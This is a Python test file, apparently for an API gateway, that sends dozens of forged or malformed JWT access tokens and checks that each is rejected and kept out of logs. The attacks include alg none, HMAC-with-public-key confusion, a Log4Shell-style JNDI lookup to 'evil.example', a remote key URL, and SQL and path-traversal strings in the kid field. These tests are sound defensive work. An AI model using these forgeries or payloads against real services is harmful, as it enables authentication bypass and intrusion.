"""Forged, stolen and misused access tokens, end to end."""

import base64
import hmac
import json
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from gateway.core.reasons import Reason
from tests import mint, world
from tests.engine.harness import Running, get, running


def part(value: object) -> str:
    """Encode a part of a token."""
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def unsigned(header: dict[str, Any], signature: str = "") -> str:
    """Make a token without a signature of the issuer's."""
    return f"{part({'kid': world.KEY_ID, 'typ': 'at+jwt', **header})}.{part(world.claims())}.{signature}"


def confused() -> str:
    """Sign with the issuer's public key as an HMAC secret."""
    public = world.private_key().public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    signing_input = unsigned({"alg": "HS256"}).rpartition(".")[0]
    mac = hmac.digest(public, signing_input.encode(), "sha256")
    return f"{signing_input}.{base64.urlsafe_b64encode(mac).rstrip(b'=').decode()}"


def foreign_key() -> mint.PrivateKey:
    """Give a key of the attacker's."""
    return ec.generate_private_key(ec.SECP256R1())


def with_embedded_key() -> str:
    """Sign with a key that the token brings along."""
    key = foreign_key()
    return world.token(key=key, header={"jwk": world.jwk(key)})


def flattened(*, general: bool = False) -> str:
    """Write a valid token in the JSON serialisation (RFC 7515 7.2), as it would stand in a field."""
    header, payload, signature = world.token().split(".")
    signed = {"protected": header, "signature": signature}
    whole = {"payload": payload, "signatures": [signed]} if general else {"payload": payload, **signed}
    return json.dumps(whole, separators=(",", ":"))


def stray_bits() -> str:
    """Spell a valid token another way: the last character of 64 octets has four bits that count for nothing."""
    token = world.token()
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return token[:-1] + alphabet[alphabet.index(token[-1]) + 1]


def changed(claim: str, value: object) -> str:
    """Change a claim of a valid token after it was signed."""
    header, _, signature = world.token().split(".")
    return f"{header}.{part({**world.claims(), claim: value})}.{signature}"


ATTACKS = {
    "alg none": (unsigned({"alg": "none"}), Reason.TOKEN_ALGORITHM),
    "alg None": (unsigned({"alg": "None"}), Reason.TOKEN_ALGORITHM),
    "alg nOnE with a signature": (unsigned({"alg": "nOnE"}, "AAAA"), Reason.TOKEN_ALGORITHM),
    "no alg": (unsigned({}), Reason.TOKEN_MALFORMED),
    "HMAC with the public key": (confused(), Reason.TOKEN_ALGORITHM),
    "another algorithm": (world.token(algorithm="ES384", key=world.private_key("P-384")), Reason.TOKEN_ALGORITHM),
    "no signature": (unsigned({"alg": "ES256"}), Reason.TOKEN_SIGNATURE),
    "signature of zeros": (unsigned({"alg": "ES256"}, "A" * 86), Reason.TOKEN_SIGNATURE),
    "signature of another key": (world.token(key=foreign_key()), Reason.TOKEN_SIGNATURE),
    "changed subject": (changed("sub", world.OTHER_SUBJECT), Reason.TOKEN_SIGNATURE),
    "changed expiry": (changed("exp", int(world.NOW) + 10_000), Reason.TOKEN_SIGNATURE),
    "embedded key": (with_embedded_key(), Reason.TOKEN_MALFORMED),
    "unknown kid": (world.token(header={"kid": "attacker"}), Reason.TOKEN_KEY_UNKNOWN),
    "kid that is a path": (world.token(header={"kid": "../../dev/null"}), Reason.TOKEN_KEY_UNKNOWN),
    "crit": (world.token(header={"crit": ["b64"], "b64": False}), Reason.TOKEN_MALFORMED),
    "kid with SQL": (world.token(header={"kid": "x' OR '1'='1' --"}), Reason.TOKEN_KEY_UNKNOWN),
    "kid with a template": (
        world.token(header={"kid": "{{7*7}}${jndi:ldap://evil.example}"}),
        Reason.TOKEN_KEY_UNKNOWN,
    ),
    "kid with NUL and line feed": (world.token(header={"kid": "operator-1\x00\n"}), Reason.TOKEN_KEY_UNKNOWN),
    "kid that is a list": (world.token(header={"kid": [world.KEY_ID]}), Reason.TOKEN_MALFORMED),
    "kid of 4,000 characters": (world.token(header={"kid": "k" * 4_000}), Reason.TOKEN_KEY_UNKNOWN),
    "unknown crit": (world.token(header={"crit": ["exp"], "exp": 1}), Reason.TOKEN_MALFORMED),
    "empty crit": (world.token(header={"crit": []}), Reason.TOKEN_MALFORMED),
    "a URL of keys": (world.token(header={"jku": "https://evil.example/jwks"}), Reason.TOKEN_MALFORMED),
    "a certificate": (world.token(header={"x5c": ["MIIB"]}), Reason.TOKEN_MALFORMED),
    "compressed": (world.token(header={"zip": "DEF"}), Reason.TOKEN_MALFORMED),
    "another token inside": (world.token(world.token().encode(), header={"cty": "JWT"}), Reason.TOKEN_MALFORMED),
    "another token as payload": (world.token(world.token().encode()), Reason.TOKEN_MALFORMED),
    "flattened JSON": (flattened(), Reason.TOKEN_MALFORMED),
    "general JSON": (flattened(general=True), Reason.TOKEN_MALFORMED),
    "encrypted": (world.token(header={"enc": "A256GCM"}), Reason.TOKEN_MALFORMED),
    "header is a list": (world.token(header=b"[]"), Reason.TOKEN_MALFORMED),
    "alg twice": (
        world.token(header=b'{"alg":"none","alg":"ES256","kid":"operator-1","typ":"at+jwt"}'),
        Reason.TOKEN_MALFORMED,
    ),
    "kid twice by an escape": (
        world.token(header=b'{"alg":"ES256","kid":"operator-1","\\u006bid":"attacker","typ":"at+jwt"}'),
        Reason.TOKEN_MALFORMED,
    ),
    "a claim twice": (
        world.token(json.dumps(world.claims()).encode()[:-1] + b', "sub": "blue-backend"}'),
        Reason.TOKEN_MALFORMED,
    ),
    "claims in UTF-16": (world.token(json.dumps(world.claims()).encode("utf-16")), Reason.TOKEN_MALFORMED),
    "claims with a byte order mark": (
        world.token(b"\xef\xbb\xbf" + json.dumps(world.claims()).encode()),
        Reason.TOKEN_MALFORMED,
    ),
    "half a surrogate pair": (world.token(b'{"sub": "\\ud800"}'), Reason.TOKEN_MALFORMED),
    "deep JSON in the claims": (world.token(b"[" * 2_500 + b"]" * 2_500), Reason.TOKEN_MALFORMED),
    "deep JSON in a claim": (
        world.token(b'{"iss":' + b"[" * 2_400 + b"]" * 2_400 + b',"exp":1795352500}'),
        Reason.TOKEN_CLAIM,
    ),
    "a header of 12 KB": (world.token(header={"pad": "x" * 9_000}), Reason.TOKEN_MALFORMED),
    "expiry that is NaN": (world.token(b'{"exp": NaN}'), Reason.TOKEN_MALFORMED),
    "expiry that is infinite": (world.token(b'{"exp": Infinity}'), Reason.TOKEN_MALFORMED),
    "expiry beyond a double": (world.token(b'{"exp": 1e999}'), Reason.TOKEN_MALFORMED),
    "expiry in milliseconds": (world.token(world.claims(exp=(int(world.NOW) + 60) * 1000)), Reason.TOKEN_CLAIM),
    "expiry of 5,000 digits": (world.token(b'{"exp": ' + b"9" * 5_000 + b"}"), Reason.TOKEN_MALFORMED),
    "expiry that is true": (world.token(world.claims(exp=True)), Reason.TOKEN_CLAIM),
    "expiry that is a list": (world.token(world.claims(exp=[int(world.NOW) + 60])), Reason.TOKEN_CLAIM),
    "expiry below zero": (world.token(world.claims(exp=-1)), Reason.TOKEN_CLAIM),
    "expiry that is a float of the past": (
        world.token(world.claims(exp=world.NOW - 10.5, iat=int(world.NOW) - 100)),
        Reason.TOKEN_EXPIRED,
    ),
    "stray bits in the signature": (stray_bits(), Reason.TOKEN_MALFORMED),
    "the other alphabet of base64": (unsigned({"alg": "ES256"}, "+/+/"), Reason.TOKEN_MALFORMED),
    "white space in base64": (world.token().replace(".", ".%20", 1), Reason.TOKEN_MALFORMED),
    "two parts": (world.token().rpartition(".")[0], Reason.TOKEN_MALFORMED),
    "four parts": (world.token() + ".x", Reason.TOKEN_MALFORMED),
    "padding": (world.token() + "==", Reason.TOKEN_MALFORMED),
    "not base64": ("a!b.c.d", Reason.TOKEN_MALFORMED),
    "another issuer": (world.token(world.claims(iss="https://evil.example")), Reason.TOKEN_ISSUER),
    "another audience": (world.token(world.claims(aud="pam")), Reason.TOKEN_AUDIENCE),
    "expired": (world.token(world.claims(exp=int(world.NOW) - 11, iat=int(world.NOW) - 100)), Reason.TOKEN_EXPIRED),
    "issued in 11 s": (world.token(world.claims(iat=int(world.NOW) + 11)), Reason.TOKEN_NOT_YET_VALID),
    "issued in a minute": (world.token(world.claims(iat=int(world.NOW) + 61)), Reason.TOKEN_NOT_YET_VALID),
    "valid in 11 s": (world.token(world.claims(nbf=int(world.NOW) + 11)), Reason.TOKEN_NOT_YET_VALID),
    "not yet valid": (world.token(world.claims(nbf=int(world.NOW) + 60)), Reason.TOKEN_NOT_YET_VALID),
    "too long-lived": (world.token(world.claims(exp=int(world.NOW) + 10_000)), Reason.TOKEN_LIFETIME),
    "no expiry": (world.token(world.claims(exp=None)), Reason.TOKEN_CLAIM),
    "expiry that is text": (world.token(world.claims(exp=str(int(world.NOW) + 60))), Reason.TOKEN_CLAIM),
    "missing scope": (world.token(world.claims(scope="openid")), Reason.TOKEN_SCOPE),
    "another partner's": (world.token(world.claims(sub=world.OTHER_SUBJECT)), Reason.TOKEN_SUBJECT),
    "nobody's": (world.token(world.claims(sub="nobody")), Reason.TOKEN_SUBJECT),
}


@pytest.mark.parametrize(("token", "reason"), ATTACKS.values(), ids=ATTACKS)
async def test_a_token_that_is_not_good_for_this(up: Running, token: str, reason: Reason) -> None:
    response = await up.send(get(authorization=f"Bearer {token}"))

    assert (response.status, response.code) == (reason.status, reason.code)
    assert up.decided == [reason]
    assert up.upstream.untouched


@pytest.mark.parametrize(
    "sent",
    [
        get(authorization=None),
        get(f"/v1/balance?access_token={world.token()}", authorization=None),
        get(authorization=None, cookie=f"access_token={world.token()}"),
        get(authorization=f"Basic {world.token()}"),
        get(authorization=world.token()),
        get(authorization="Bearer"),
    ],
    ids=["none", "in the query", "in a cookie", "another scheme", "no scheme", "no token"],
)
async def test_a_token_that_is_not_where_it_belongs(up: Running, sent: bytes) -> None:
    assert (await up.send(sent)).status == 401

    assert up.decided[0] in (Reason.TOKEN_MISSING, Reason.TOKEN_MALFORMED)
    assert up.upstream.untouched


async def test_two_tokens_are_none(up: Running) -> None:
    made = get().replace(b"\r\n\r\n", b"\r\nauthorization: Bearer " + world.token().encode() + b"\r\n\r\n")

    assert (await up.send(made)).code == "http.field_repeated"
    assert up.upstream.untouched


@pytest.mark.parametrize("claim", ["iat", "nbf"])
async def test_an_issuer_whose_clock_is_10_s_ahead(up: Running, claim: str) -> None:
    token = world.token(world.claims(**{claim: int(world.NOW) + 10}))

    assert (await up.send(get(authorization=f"Bearer {token}"))).status == 200


async def test_a_token_remembered_as_good_expires_all_the_same(up: Running) -> None:
    assert (await up.send(get())).status == 200

    up.time.move(300)

    assert (await up.send(get())).code == "token.expired"


async def test_a_token_remembered_for_one_partner_serves_no_other(tmp_path: Path) -> None:
    async with running(tmp_path) as up:
        assert (await up.send(get())).status == 200

        assert (await up.send(get(), certificate="other")).code == "partner.not_allowed"
        assert (await up.send(get(authorization=f"Bearer {changed('sub', world.OTHER_SUBJECT)}"))).status == 401


async def test_no_token_reaches_log_or_answer(up: Running) -> None:
    for token in (world.token(), confused(), "eyJhbGciOiJub25lIn0.e30.", "marker-7f3a"):
        response = await up.send(get(authorization=f"Bearer {token}"))
        assert token.encode() not in response.body

    for field in ("cookie", "dpop", "proxy-authorization", "x-access-token"):
        await up.send(get(**{field: "marker-7f3a"}))
    await up.send(get("/v1/balance?access_token=marker-7f3a"))
    await up.send(get("/v1/balance?a=b", authorization="Bearer marker-7f3a, Bearer marker-7f3a"))
    await up.send(b"GET /v1/balance HTTP/1.1\r\nauthorization : Bearer marker-7f3a\r\n\r\n")

    log = b"".join(file.read_bytes() for file in (up.directory / "audit").glob("*.jsonl"))
    assert b"eyJ" not in log
    assert b"marker-7f3a" not in log
